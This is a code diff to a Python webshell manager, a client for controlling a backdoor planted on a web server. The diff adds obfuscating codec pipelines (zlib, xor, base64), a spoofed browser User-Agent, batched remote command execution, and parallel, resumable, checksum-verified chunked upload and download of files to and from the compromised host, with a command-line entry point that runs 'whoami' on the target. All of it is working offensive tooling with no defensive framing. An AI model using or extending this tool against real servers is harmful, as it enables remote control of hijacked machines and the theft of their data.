@@ -1,9 +1,14 @@
 import base64
+import hashlib
 import json
 import os
-import urllib.parse
-import urllib.request
+import time
+import uuid
 from argparse import ArgumentParser
+from concurrent.futures import ThreadPoolExecutor, wait, FIRST_COMPLETED
+
+from modules.webshell.codec import CodecPipeline
+from utils.http_client import get_http_client
 
 try:
     import pymysql
@@ -12,37 +17,41 @@ except ImportError:
 
 
 class WebshellManager:
-    def __init__(self, url, password, encrypt_type='base64', timeout=10):
+    def __init__(self, url, password, encrypt_type='base64', timeout=10,
+                 chunk_size=512 * 1024, parallel=4, retries=3, shell='unix'):
         """
         :param url: Webshell连接地址
         :param password: 连接密码
-        :param encrypt_type: 加密类型 (base64/xor)
+        :param encrypt_type: 编码管道, 用 + 连接 (base64/xor/zlib/text/raw), 例如 zlib+xor+base64; 单独的 xor 与旧版线上格式兼容
         :param timeout: 请求超时时间
+        :param chunk_size: 文件传输的分块大小（字节）
+        :param parallel: 文件传输时同时在途的分块数
+        :param retries: 单个分块失败后的重试次数
+        :param shell: 远程命令解释器类型 (unix/windows), 为 None 时不支持把多条命令合并到一次请求
         """
         self.url = url
         self.password = password
         self.encrypt_type = encrypt_type
+        self.codec = CodecPipeline.from_spec(encrypt_type)
         self.timeout = timeout
+        self.chunk_size = chunk_size
+        self.parallel = parallel
+        self.retries = retries
+        self.shell = shell
         self.headers = {
             'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36',
             'Content-Type': 'application/x-www-form-urlencoded'
         }
+        # 共享连接池, 同一目标的多次请求复用 keep-alive 连接
+        self.http = get_http_client()
 
     def _encrypt(self, data):
-        """数据加密方法"""
-        if self.encrypt_type == 'base64':
-            return base64.b64encode(data.encode()).decode()
-        elif self.encrypt_type == 'xor':
-            return ''.join(chr(ord(c) ^ 0xFF) for c in data)
-        return data
+        """数据加密方法, 接受 str/bytes/memoryview, 返回 bytes"""
+        return self.codec.encode(data)
 
     def _decrypt(self, data):
-        """数据解密方法"""
-        if self.encrypt_type == 'base64':
-            return base64.b64decode(data).decode()
-        elif self.encrypt_type == 'xor':
-            return ''.join(chr(ord(c) ^ 0xFF) for c in data)
-        return data
+        """数据解密方法, 返回 bytes"""
+        return self.codec.decode(data)
 
     def execute(self, command):
         """执行系统命令"""
@@ -52,47 +61,240 @@ class WebshellManager:
         }
 
         try:
-            data = urllib.parse.urlencode(payload).encode()
-            req = urllib.request.Request(
-                self.url,
-                data=data,
-                headers=self.headers
-            )
-            with urllib.request.urlopen(req, timeout=self.timeout) as res:
-                response = res.read().decode()
-                return self._decrypt(response)
+            res = self.http.post(self.url, data=payload, headers=self.headers, timeout=self.timeout)
+            res.raise_for_status()
+            return self._decrypt(res.content).decode('utf-8', errors='replace')
         except Exception as e:
             return f"Error: {str(e)}"
 
-    def upload(self, local_path, remote_path):
-        """上传文件到目标服务器"""
+    @property
+    def supports_batch(self):
+        return self.shell in ('unix', 'windows')
+
+    def execute_batch(self, commands):
+        """把多条命令合并为一次请求执行, 通过随机分隔标记拆分每条命令的输出
+
+        :return: 与 commands 一一对应的输出列表
+        """
+        if not commands:
+            return []
+        if not self.supports_batch or len(commands) == 1:
+            return [self.execute(command) for command in commands]
+
+        batch_id = uuid.uuid4().hex
+        tags = [f"__BATCH_{batch_id}_{i}__" for i in range(len(commands) + 1)]
+        joiner = ' & ' if self.shell == 'windows' else '; '
+        parts = []
+        for tag, command in zip(tags, commands):
+            parts.append(f"echo {tag}")
+            parts.append(self._group(command))
+        parts.append(f"echo {tags[-1]}")
+
+        output = self.execute(joiner.join(parts))
+        if output.startswith('Error: '):
+            return [output] * len(commands)
+
+        results = []
+        for i in range(len(commands)):
+            start = output.find(tags[i])
+            end = output.find(tags[i + 1], start + 1)
+            if start < 0 or end < 0:
+                results.append("Error: batch output truncated")
+                continue
+            results.append(output[start + len(tags[i]):end].strip('\r\n '))
+        return results
+
+    def _group(self, command):
+        """把单条命令包成一组再重定向 stderr, 命令末尾的 # 注释、后台 & 和 a && b 都不会影响前后的分隔标记"""
+        command = command.strip() or ':'
+        if self.shell == 'windows':
+            return f"( {command} ) 2>&1"
+        # 换行结束可能存在的注释, } 必须位于新的一行
+        return f"{{ {command}\n}} 2>&1"
+
+    def upload(self, local_path, remote_path, offset=None):
+        """分块上传文件到目标服务器, webshell 不支持分块传输时退回旧版的整文件上传
+
+        :param offset: 从该偏移量继续上传, 为 None 时根据远程文件已有大小自动续传
+        """
         if not os.path.exists(local_path):
             return "Local file not exists"
 
+        total = os.path.getsize(local_path)
+        if offset is None:
+            try:
+                remote_size = self._stat(remote_path)
+            except Exception as e:
+                return f"Upload failed: {e}"
+            if remote_size is None:
+                return self._legacy_upload(local_path, remote_path)
+            offset = remote_size - remote_size % self.chunk_size if 0 < remote_size <= total else 0
+            if remote_size > offset:
+                # 远程文件比本地大或末尾有不完整的分块时先截断到续传位置, 否则旧内容的尾部会残留下来
+                self._send_special({'pass': self.password, 'action': 'truncate', 'path': remote_path, 'size': offset})
+
+        def send_chunk(chunk_offset, length):
+            with open(local_path, 'rb') as f:
+                f.seek(chunk_offset)
+                chunk = f.read(length)
+            response = self._post_special({
+                'pass': self.password,
+                'action': 'upload_chunk',
+                'path': remote_path,
+                'offset': chunk_offset,
+                'data': self._encrypt(chunk),
+                'md5': hashlib.md5(chunk).hexdigest()
+            })
+            if response.strip() != 'OK':
+                raise RuntimeError(response.strip() or "empty response")
+
+        if total == 0:
+            # 空文件没有分块可发: 用一个空分块创建远程文件, 已存在的同名文件在上面已截断为空
+            try:
+                send_chunk(0, 0)
+            except Exception as e:
+                return f"Upload failed at offset 0: {e}"
+
+        done, error = self._transfer_chunks(offset, total, send_chunk)
+        if error is not None:
+            # 截断到连续完成的位置, 保证下次按远程文件大小续传时不会留下空洞
+            self._send_special({'pass': self.password, 'action': 'truncate', 'path': remote_path, 'size': done})
+            return f"Upload failed at offset {done}: {error}"
+
+        # 整个文件再校验一次, 防止续传时远程文件中残留上次失败留下的空洞
+        if self._remote_md5(remote_path) != self._file_md5(local_path):
+            self._send_special({'pass': self.password, 'action': 'truncate', 'path': remote_path, 'size': 0})
+            return "Upload failed: checksum mismatch, remote file reset"
+        return "Upload success"
+
+    def download(self, remote_path, local_path, offset=None):
+        """分块下载远程文件到本地, webshell 不支持分块传输时退回旧版的整文件下载
+
+        数据先写入 local_path + '.part', 全部完成后再重命名;
+        :param offset: 从该偏移量继续下载, 为 None 时根据已有的 .part 文件大小自动续传
+        """
+        try:
+            total = self._stat(remote_path)
+        except Exception as e:
+            return f"Download failed: {e}"
+        if total is None:
+            return self._legacy_download(remote_path, local_path)
+        if total < 0:
+            return f"ERROR: remote file not exists: {remote_path}"
+
+        part_path = local_path + '.part'
+        if offset is None:
+            part_size = os.path.getsize(part_path) if os.path.exists(part_path) else 0
+            offset = part_size - part_size % self.chunk_size if part_size <= total else 0
+        with open(part_path, 'ab') as f:
+            f.truncate(offset)
+
+        def fetch_chunk(chunk_offset, length):
+            response = self._post_special({
+                'pass': self.password,
+                'action': 'download_chunk',
+                'path': remote_path,
+                'offset': chunk_offset,
+                'length': length
+            }, raw=True)
+            checksum, _, encoded = response.lstrip().partition(b':')
+            chunk = self._decrypt(encoded)
+            if len(chunk) != length or hashlib.md5(chunk).hexdigest().encode() != checksum:
+                raise RuntimeError(f"checksum mismatch at offset {chunk_offset}")
+            with open(part_path, 'r+b') as f:
+                f.seek(chunk_offset)
+                f.write(chunk)
+
+        done, error = self._transfer_chunks(offset, total, fetch_chunk)
+        if error is not None:
+            with open(part_path, 'r+b') as f:
+                f.truncate(done)
+            return f"Download failed at offset {done}: {error}"
+
+        if self._remote_md5(remote_path) != self._file_md5(part_path):
+            os.remove(part_path)
+            return "Download failed: checksum mismatch"
+
+        try:
+            os.replace(part_path, local_path)
+            return "Download success"
+        except Exception as e:
+            return f"Download failed: {str(e)}"
+
+    def _transfer_chunks(self, offset, total, handler):
+        """从 offset 开始按 chunk_size 分块并发调用 handler(chunk_offset, length)
+
+        最多 parallel 个分块在途, 内存占用与文件大小无关; 单个分块失败时重试 retries 次
+        :return: (从头开始连续完成的字节数, 错误信息或 None)
+        """
+
+        def run(chunk_offset, length):
+            for attempt in range(self.retries + 1):
+                try:
+                    return handler(chunk_offset, length)
+                except Exception:
+                    if attempt == self.retries:
+                        raise
+                    time.sleep(0.5 * 2 ** attempt)
+
+        chunk_offsets = iter(range(offset, total, self.chunk_size))
+        completed = set()
+        done = offset
+        error = None
+
+        with ThreadPoolExecutor(max_workers=self.parallel) as executor:
+            in_flight = {}
+            while True:
+                while error is None and len(in_flight) < self.parallel:
+                    chunk_offset = next(chunk_offsets, None)
+                    if chunk_offset is None:
+                        break
+                    length = min(self.chunk_size, total - chunk_offset)
+                    in_flight[executor.submit(run, chunk_offset, length)] = (chunk_offset, length)
+                if not in_flight:
+                    break
+
+                finished, _ = wait(in_flight, return_when=FIRST_COMPLETED)
+                for future in finished:
+                    chunk_offset, length = in_flight.pop(future)
+                    try:
+                        future.result()
+                        completed.add(chunk_offset)
+                    except Exception as e:
+                        error = error or str(e)
+                while done in completed:
+                    completed.discard(done)
+                    done = min(done + self.chunk_size, total)
+
+        return done, error
+
+    def _stat(self, remote_path):
+        """查询远程文件大小, 不存在时返回 -1; 响应不是数字时说明 webshell 不支持分块传输, 返回 None
+
+        请求失败时抛出异常, 不会被误判为旧版 webshell
+        """
+        response = self._post_special({'pass': self.password, 'action': 'stat', 'path': remote_path})
+        try:
+            return int(response.strip())
+        except ValueError:
+            return None
+
+    def _legacy_upload(self, local_path, remote_path):
+        """旧版 webshell 的 upload 操作: 整个文件 base64 后一次发送, 不支持续传"""
         with open(local_path, 'rb') as f:
             file_content = base64.b64encode(f.read()).decode()
-
-        payload = {
+        return self._send_special({
             'pass': self.password,
             'action': 'upload',
             'path': remote_path,
             'data': file_content
-        }
-
-        return self._send_special(payload)
-
-    def download(self, remote_path, local_path):
-        """下载远程文件到本地"""
-        payload = {
-            'pass': self.password,
-            'action': 'download',
-            'path': remote_path
-        }
+        })
 
-        response = self._send_special(payload)
-        if response.startswith('ERROR:'):
+    def _legacy_download(self, remote_path, local_path):
+        """旧版 webshell 的 download 操作: 整个文件以 base64 一次返回"""
+        response = self._send_special({'pass': self.password, 'action': 'download', 'path': remote_path})
+        if response.startswith(('ERROR:', 'Error: ')):
             return response
-
         try:
             with open(local_path, 'wb') as f:
                 f.write(base64.b64decode(response))
@@ -100,17 +302,29 @@ class WebshellManager:
         except Exception as e:
             return f"Download failed: {str(e)}"
 
+    def _remote_md5(self, remote_path):
+        return self._send_special({'pass': self.password, 'action': 'md5', 'path': remote_path}).strip()
+
+    def _file_md5(self, local_path):
+        """按块计算本地文件的md5, 内存占用与文件大小无关"""
+        digest = hashlib.md5()
+        with open(local_path, 'rb') as f:
+            for block in iter(lambda: f.read(self.chunk_size), b''):
+                digest.update(block)
+        return digest.hexdigest()
+
+    def _post_special(self, payload, raw=False):
+        """发送特殊操作请求, 失败时抛出异常
+        :param raw: 为 True 时返回响应的原始字节
+        """
+        res = self.http.post(self.url, data=payload, headers=self.headers, timeout=self.timeout)
+        res.raise_for_status()
+        return res.content if raw else res.text
+
     def _send_special(self, payload):
         """发送特殊操作请求"""
         try:
-            data = urllib.parse.urlencode(payload).encode()
-            req = urllib.request.Request(
-                self.url,
-                data=data,
-                headers=self.headers
-            )
-            with urllib.request.urlopen(req, timeout=self.timeout) as res:
-                return res.read().decode()
+            return self._post_special(payload)
         except Exception as e:
             return f"Error: {str(e)}"
 
@@ -141,9 +355,10 @@ if __name__ == '__main__':
     parser = ArgumentParser(description='Webshell Management Tool')
     parser.add_argument('-u', '--url', required=True, help='Webshell URL')
     parser.add_argument('-p', '--password', required=True, help='Connection password')
+    parser.add_argument('-e', '--encrypt', default='base64', help='Codec pipeline, e.g. zlib+xor+base64')
     args = parser.parse_args()
 
-    manager = WebshellManager(args.url, args.password)
+    manager = WebshellManager(args.url, args.password, encrypt_type=args.encrypt)
 
     # 示例使用
     print(manager.execute('whoami'))